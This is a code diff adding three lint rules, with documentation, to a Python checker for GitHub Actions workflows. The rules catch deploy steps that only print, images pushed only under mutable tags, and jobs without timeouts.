+def ga010(doc: WorkflowDoc, ctx: FileContext) -> Iterator[Problem]:
+    for job in doc.jobs:
+        if job.uses is not None or DEPLOY in job_facts(job).kinds:
+            continue
+        deploy_job = job.environment is not None or _says_deploy(f"{job.id} {job.name or ''}")
+        for step in job.steps:
+            if step.run is None or not _only_prints(step.run.value):
+                continue
+            if _says_deploy(step.name or "") or (deploy_job and _only_real_work_is_printing(job)):
+                yield Problem(f"{step.label} only prints: nothing is deployed", step.line)
+                break
+
+
+_DEPLOY_WORD = re.compile(r"(?i)(^|[^a-z])(deploy\w*|release to|ship|rollout|promote)([^a-z]|$)")
+_DO_NOTHING = frozenset({"echo", "printf", "sleep", "true", ":", "date", "env"})
+
+
+def _says_deploy(text: str) -> bool:
+    return bool(_DEPLOY_WORD.search(text))
+
+
+def _only_prints(script: str) -> bool:
+    cmds = script_commands(script)
+    return bool(cmds) and all(c.program in _DO_NOTHING for c in cmds)
+
+
+def _only_real_work_is_printing(job: Job) -> bool:
+    for step in job.steps:
+        if step.run is not None:
+            if not _only_prints(step.run.value):
+                return False
+        elif not step.action.startswith(PREPARATION_ACTIONS):
+            return False
+    return True
+
+
+@file_rule(
+    "GA011",
+    "W",
+    FAMILY,
+    "Image pushed only under a mutable tag",
+    fix="Also tag the image with the commit SHA (`app:${{ github.sha }}`) or a release version, and "
+    "deploy that tag.",
+    docs="""
+## What it does
+Reports a job that pushes container images (`docker push`, `docker buildx build --push`,
+`docker/build-push-action` with `push: true`, `podman`/`buildah push`, `crane`, `skopeo`) when every
+tag it pushes is a moving name: no tag (`latest`), `latest`, `main`, `master`, `stable`, `edge`,
+`dev`, `staging`, `prod`... Tags computed at run time that opsmith cannot see (for example
+`docker/metadata-action` outputs) are given the benefit of the doubt.
+
+## Why it matters
+A mutable tag is overwritten by the next push. Nobody can tell which commit is running, two nodes
+pulling minutes apart run different code, and a rollback has nothing to roll back to because the
+previous image no longer has a name.
+
+## Example
+```yaml
+- uses: docker/build-push-action@<sha>
+  with:
+    push: true
+    tags: ghcr.io/acme/shop:latest
+```
+
+## Fix
+```yaml
+    tags: |
+      ghcr.io/acme/shop:${{ github.sha }}
+      ghcr.io/acme/shop:latest
+```
+
+## Equivalent rules
+None in zizmor, actionlint or checkov; DF001/DC001/KU001 catch the consuming side (`latest` images).
+""",
+)
+def ga011(doc: WorkflowDoc, ctx: FileContext) -> Iterator[Problem]:
+    for job in doc.jobs:
+        pushes = [p for step in job.steps for p in facts.pushed_tags(step)]
+        if not pushes:
+            continue
+        if all(facts.is_mutable_tag(tag) for _step, _line, tag in pushes):
+            _step, line, _tag = pushes[0]
+            shown = ", ".join(sorted({f"`{facts.tag_label(t)}`" for _s, _l, t in pushes}))
+            yield Problem(
+                f"job `{job.id}` pushes images only as {shown}: the next push overwrites them and "
+                "no tag says which commit is deployed",
+                line,
+            )
+
+
+@file_rule(
+    "GA012",
+    "I",
+    FAMILY,
+    "Job without timeout-minutes",
+    fix="Set `timeout-minutes:` on the job, a few times its usual duration.",
+    docs="""
+## What it does
+Reports a job that sets no `timeout-minutes`. Jobs that call a reusable workflow (`uses:`) cannot
+set it and are exempt.
+
+## Why it matters
+The default is 360 minutes. A hung test, a deploy waiting for a rollout that never finishes, or an
+interactive prompt keeps a runner busy for six hours, blocks the concurrency group behind it and
+burns paid minutes.
+
+## Example
+```yaml
+jobs:
+  test:
+    runs-on: ubuntu-latest
+```
+
+## Fix
+```yaml
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    timeout-minutes: 15
+```
+
+## Equivalent rules
+None in zizmor or checkov; actionlint has none (it is a style choice there).
+""",
+)
+def ga012(doc: WorkflowDoc, ctx: FileContext) -> Iterator[Problem]:
+    for job in doc.jobs:
+        if job.uses is None and not job.has_timeout:
+            yield Problem(f"job `{job.id}` has no `timeout-minutes` (the default is 6 hours)", job.line)
+
+
+RULES: tuple[Rule[WorkflowDoc], ...] = (
+    ga001,
+    ga002,
+    ga003,
+    ga004,
+    ga005,
+    ga006,
+    ga007,
+    ga008,
+    ga009,
+    ga010,
+    ga011,
+    ga012,
+    ga013,
+)
